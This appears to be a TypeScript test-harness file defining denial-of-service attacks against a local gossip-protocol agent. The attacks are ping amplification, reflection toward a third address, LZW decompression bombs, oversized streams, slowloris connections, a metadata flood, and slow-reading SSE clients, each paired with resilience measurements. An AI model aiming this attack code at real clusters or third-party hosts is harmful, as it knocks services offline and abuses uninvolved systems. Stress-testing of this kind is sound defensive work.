/**
 * The attacks that load the victim (CPU, bandwidth, memory, connections), run against one system
 * at a time: amplified answers, large or compressed streams, idle connections, floods, SSE
 * clients that never read.
 */
import type net from 'node:net';
import { forgedPushPull, lzwBombStream, largeStream, metaChange, nestedIndirectPings, nestedPings } from './attack-packets.js';
import { concurrentStreams, connectTo, count, deadPort, flood, MiB, mib, sendStream, withListener } from './attack-tools.js';
import type { Attack } from './attacks.js';
import { LOOPBACK, sleep } from './bench-processes.js';
import { residentBytes } from './proc-stats.js';

export const FLOOD_ATTACKS: readonly Attack[] = [
  {
    key: 'nested-compound',
    title: 'nested-compound pings: one datagram of 127 × 127 pings',
    hearsayOnly: false,
    memory: false,
    alone: true,
    async run({ cluster }) {
      const datagram = nestedPings();
      return withListener(async (listener) => {
        await listener.send(datagram, cluster.victim.gossipPort);
        await listener.quiet(1_500, 30_000);
        return {
          amplification: listener.bytes / datagram.length,
          outcome: `${count(listener.packets)} packets (${mib(listener.bytes)}) back for one ${count(datagram.length)}-byte datagram`,
          figures: { sent_bytes: datagram.length, answer_packets: listener.packets, answer_bytes: listener.bytes },
        };
      });
    },
  },
  {
    key: 'indirect-ping-reflection',
    title: 'indirect-ping reflection: one datagram of 127 × 127 indirect pings toward a third address',
    hearsayOnly: false,
    memory: false,
    alone: true,
    async run({ cluster }) {
      return withListener((reflector) =>
        withListener(async (attacker) => {
          const datagram = nestedIndirectPings({ host: LOOPBACK, port: reflector.port });
          await attacker.send(datagram, cluster.victim.gossipPort);
          await reflector.quiet(1_500, 30_000);
          return {
            amplification: reflector.bytes / datagram.length,
            outcome: `${count(reflector.packets)} pings (${mib(reflector.bytes)}) to the third address for one ${count(datagram.length)}-byte datagram`,
            figures: { sent_bytes: datagram.length, reflected_packets: reflector.packets, reflected_bytes: reflector.bytes },
          };
        }),
      );
    },
  },
  {
    key: 'large-streams',
    title: 'concurrent large streams: push/pulls just under the 20 MiB stream limit',
    hearsayOnly: false,
    memory: true,
    alone: true,
    async run({ cluster, scale }) {
      const delivered = await concurrentStreams(cluster.victim.gossipPort, scale.streams, largeStream(scale.streamBytes), 30_000);
      return {
        outcome: `${delivered}/${scale.streams} streams of ${mib(scale.streamBytes)} sent whole, ${scale.streams - delivered} cut off by the victim`,
        figures: { streams: scale.streams, stream_bytes: scale.streamBytes, delivered },
      };
    },
  },
  {
    key: 'lzw-bombs',
    title: 'concurrent LZW bombs: compressed streams expanding past the limit',
    hearsayOnly: false,
    memory: true,
    alone: true,
    async run({ cluster, scale }) {
      const bomb = lzwBombStream(scale.bombBytes);
      // The peak comes while they expand; what stays is read `--settle` later.
      const delivered = await concurrentStreams(cluster.victim.gossipPort, scale.bombs, bomb, 10_000);
      return {
        outcome: `${scale.bombs} bombs of ${count(Math.round(bomb.length / 1024))} KiB expanding to ${mib(scale.bombBytes)}; ${delivered} sent whole`,
        figures: { bombs: scale.bombs, bomb_bytes: bomb.length, expands_to: scale.bombBytes, delivered },
      };
    },
  },
  {
    key: 'slowloris',
    title: 'slowloris: idle connections on the gossip port, joins meanwhile',
    hearsayOnly: false,
    memory: false,
    alone: true,
    async run({ cluster, scale }) {
      const victim = cluster.victim;
      const sockets: net.Socket[] = [];
      try {
        for (let opened = 0; opened < scale.idleConnections; opened += 50) {
          const batch = Math.min(50, scale.idleConnections - opened);
          const connected = await Promise.all(Array.from({ length: batch }, () => connectTo(victim.gossipPort, 2_000)));
          for (const socket of connected) if (socket) sockets.push(socket.on('error', () => undefined));
        }
        const accepted = sockets.length;
        const attempts = 3;
        const failures: string[] = [];
        const started = performance.now();
        for (let i = 0; i < attempts; i++) {
          const failure = await cluster.system.join(cluster.agents[1]!, `${LOOPBACK}:${victim.gossipPort}`);
          if (failure !== null) failures.push(failure);
          await sleep(Math.max(0, ((i + 1) * scale.idleMs) / attempts - (performance.now() - started)));
        }
        const stillOpen = sockets.filter((socket) => !socket.destroyed).length;
        const joins = `${attempts - failures.length}/${attempts} joins succeeded`;
        return {
          outcome: `${joins} with ${count(accepted)} idle connections (${count(stillOpen)} open at the end)${failures[0] ? `; ${failures[0]}` : ''}`,
          figures: { idle_connections: accepted, still_open: stillOpen, joins: attempts, joins_failed: failures.length },
        };
      } finally {
        for (const socket of sockets) socket.destroy();
      }
    },
  },
  {
    key: 'meta-flood',
    title: 'meta-change flood: alive updates changing one member’s tags, from one source',
    hearsayOnly: false,
    memory: true,
    alone: true,
    async run({ cluster, scale }) {
      const pid = cluster.victim.process.pid;
      const port = await deadPort();
      const before = residentBytes(pid);
      const sent = await withListener((listener) =>
        flood(listener, cluster.victim.gossipPort, (i) => metaChange('flooder', i + 1, port), scale.floodPerSecond, scale.floodMs),
      );
      const growth = (residentBytes(pid) - before) / MiB / (scale.floodMs / 1000);
      return {
        outcome: `RSS ${growth >= 0 ? '+' : ''}${growth.toFixed(1)} MiB/s over ${scale.floodMs / 1000} s (${count(sent)} updates)`,
        figures: { updates: sent, rss_growth_mib_per_s: growth },
      };
    },
  },
  {
    key: 'sse-clients',
    title: 'SSE clients that never read, and a forged push/pull of 50,000 members',
    hearsayOnly: true,
    memory: true,
    alone: true,
    async run({ cluster, scale }) {
      const victim = cluster.victim;
      const clients: net.Socket[] = [];
      try {
        for (let i = 0; i < scale.sseClients; i++) {
          const socket = await connectTo(victim.controlPort);
          if (!socket) continue;
          socket.on('error', () => undefined);
          socket.write(`GET /v1/events HTTP/1.1\r\nHost: ${LOOPBACK}:${victim.controlPort}\r\nAccept: text/event-stream\r\n\r\n`);
          socket.pause(); // and never read
          clients.push(socket);
        }
        await sendStream(victim.gossipPort, forgedPushPull(scale.sseBurst, await deadPort(), 'sse-forged'), 10_000);
        await sleep(10_000);
        // Read at last: a client the agent dropped ends once what was buffered for it is read.
        const ended = clients.map(
          (socket) =>
            new Promise<boolean>((resolve) => {
              socket.once('end', () => resolve(true)).once('close', () => resolve(true));
              setTimeout(() => resolve(socket.destroyed), 2_000);
              socket.resume();
            }),
        );
        const dropped = (await Promise.all(ended)).filter(Boolean).length;
        return {
          outcome: `${scale.sseClients} clients, ${count(scale.sseBurst)} forged members: ${dropped} clients dropped by the agent`,
          figures: { clients: scale.sseClients, forged_members: scale.sseBurst, clients_dropped: dropped },
        };
      } finally {
        for (const socket of clients) socket.destroy();
      }
    },
  },
];
